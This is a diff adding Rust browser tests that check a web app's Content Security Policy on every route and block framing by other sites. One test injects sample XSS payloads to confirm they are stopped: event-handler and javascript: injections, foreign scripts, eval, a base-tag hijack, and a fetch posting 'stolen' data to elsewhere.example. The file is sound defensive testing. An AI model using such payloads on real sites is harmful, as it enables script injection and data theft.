@@ -1,0 +1,157 @@
+//! In the browser: the pages keep to their own policy everywhere, and what is slipped into one of them neither runs nor gets out.
+
+use anyhow::{Context, Result, ensure};
+use serde_json::Value;
+use shared::directory::Role;
+use tests::{Page, Pair, in_browser};
+
+/// Every route of the pages, from their own list.
+fn routes() -> Vec<&'static str> {
+    let list = include_str!("../../frontend/src/app.rs");
+    list.split("path!(\"").skip(1).filter_map(|rest| rest.split('"').next()).collect()
+}
+
+/// A route as the address of something that is there.
+fn address(route: &str, application: &str) -> Result<String> {
+    let parts = route.split('/').map(|part| match part {
+        ":id" | ":application" => Ok(application),
+        part => {
+            ensure!(!part.starts_with(':'), "{route} names something that this test doesn't know");
+            Ok(part)
+        }
+    });
+    Ok(parts.collect::<Result<Vec<_>>>()?.join("/"))
+}
+
+async fn keeps_to_its_policy(page: &Page, who: &str) -> Result<()> {
+    let violations = page.violations().await?;
+    ensure!(violations.is_empty(), "{who}: {violations:?}");
+    Ok(())
+}
+
+#[tokio::test]
+async fn no_page_of_anybodys_does_what_the_policy_forbids() -> Result<()> {
+    in_browser("policy", async |page| {
+        let mut pair = Pair::of(2).await?;
+        let application = pair.submit().await?;
+        let customer = pair.customer(0)?.clone();
+        let (customers_person, _) = pair.world.answers_for(&customer).await?;
+        let routes = routes();
+        ensure!(routes.len() > 15, "{routes:?}");
+        page.watch_policy().await?;
+        for route in ["/sign-in", "/consent/link", "/nonsense"] {
+            page.open(route).await?;
+            page.rests().await?;
+        }
+        keeps_to_its_policy(&page, "nobody").await?;
+        let world = &pair.world;
+        for person in [
+            world.person_of(&pair.new, Role::Operator)?,
+            world.person_of(&pair.original, Role::Approver)?,
+            world.reviewer_id()?,
+            world.administrator_id()?,
+            customers_person,
+        ] {
+            page.sign_in(&person, "/").await?;
+            page.rests().await?;
+            for route in &routes {
+                let address = address(route, application.id.as_str())?;
+                page.follow(&address).await.with_context(|| format!("{person} at {address}"))?;
+            }
+            keeps_to_its_policy(&page, person.as_str()).await?;
+        }
+        Ok(())
+    })
+    .await
+}
+
+/// Each tries to run something, or to send something away; what comes of it is noted in `window.got`.
+const SLIPPED_IN: &str = "
+    const done = arguments[arguments.length - 1];
+    window.got = [];
+    const put = html => document.body.insertAdjacentHTML('beforeend', html);
+    put('<img src=\"/nothing.png\" onerror=\"window.got.push(1)\">');
+    put('<p style=\"position:fixed\">styled</p>');
+    put('<img src=\"https://elsewhere.example/?stolen\">');
+    put('<iframe src=\"https://elsewhere.example/\"></iframe>');
+    put('<a href=\"javascript:window.got.push(2)\" id=\"link\">x</a>');
+    document.getElementById('link').click();
+    const script = document.createElement('script');
+    script.textContent = 'window.got.push(3)';
+    document.body.append(script);
+    const foreign = document.createElement('script');
+    foreign.src = 'https://elsewhere.example/x.js';
+    document.body.append(foreign);
+    const style = document.createElement('style');
+    style.textContent = 'body { display: none }';
+    document.head.append(style);
+    try { eval('window.got.push(4)'); } catch { /* as it should be */ }
+    try { new Function('window.got.push(5)')(); } catch { /* likewise */ }
+    try { new Worker(URL.createObjectURL(new Blob(['1']))); } catch { /* likewise */ }
+    const base = document.createElement('base');
+    base.href = 'https://elsewhere.example/';
+    document.head.append(base);
+    fetch('https://elsewhere.example/', { method: 'POST', body: 'stolen', mode: 'no-cors' })
+        .then(() => window.got.push(6), () => {})
+        .finally(() => setTimeout(() => done({
+            got: window.got,
+            hidden: getComputedStyle(document.body).display === 'none',
+            styled: getComputedStyle([...document.querySelectorAll('p')].at(-1)).position === 'fixed',
+            base: document.baseURI,
+        }), 300));
+";
+
+#[tokio::test]
+async fn what_is_slipped_into_a_page_neither_runs_nor_gets_out() -> Result<()> {
+    in_browser("slipped_in", async |page| {
+        page.watch_policy().await?;
+        page.open("/sign-in").await?;
+        page.rests().await?;
+        let came_of_it = page.run_to_its_end(SLIPPED_IN).await?;
+        let field = |name: &str| came_of_it.get(name).cloned().unwrap_or_default();
+        ensure!(field("got") == Value::Array(Vec::new()), "something ran: {came_of_it}");
+        ensure!(field("hidden") == false && field("styled") == false, "a style took effect: {came_of_it}");
+        ensure!(!field("base").as_str().unwrap_or_default().contains("elsewhere"), "links lead away: {came_of_it}");
+        // It was the policy that stopped it, and the listener of the other test hears such things.
+        let violations = page.violations().await?;
+        for directive in [
+            "script-src-attr",
+            "script-src-elem",
+            "style-src-attr",
+            "style-src-elem",
+            "img-src",
+            "frame-src",
+            "connect-src",
+            "worker-src",
+            "base-uri",
+        ] {
+            let stopped = violations.iter().any(|heard| heard.starts_with(directive));
+            ensure!(stopped, "{directive} stopped nothing: {violations:#?}");
+        }
+        let complaints = page.complaints().await?;
+        ensure!(!complaints.is_empty(), "the console says nothing of it, and no other test would notice");
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn no_other_site_can_show_a_page_in_a_frame() -> Result<()> {
+    in_browser("framed", async |page| {
+        page.watch_policy().await?;
+        page.open("/sign-in").await?;
+        page.rests().await?;
+        let framed = "
+            const done = arguments[arguments.length - 1];
+            const frame = document.createElement('iframe');
+            frame.src = '/tasks';
+            frame.onload = () => done(frame.contentDocument?.body?.innerText ?? 'refused');
+            document.body.append(frame);
+            setTimeout(() => done('never loaded'), 3000);
+        ";
+        let shown = page.run_to_its_end(framed).await?;
+        ensure!(["refused", "never loaded", ""].contains(&shown.as_str().unwrap_or_default()), "shown: {shown}");
+        page.complaints().await.map(drop)
+    })
+    .await
+}
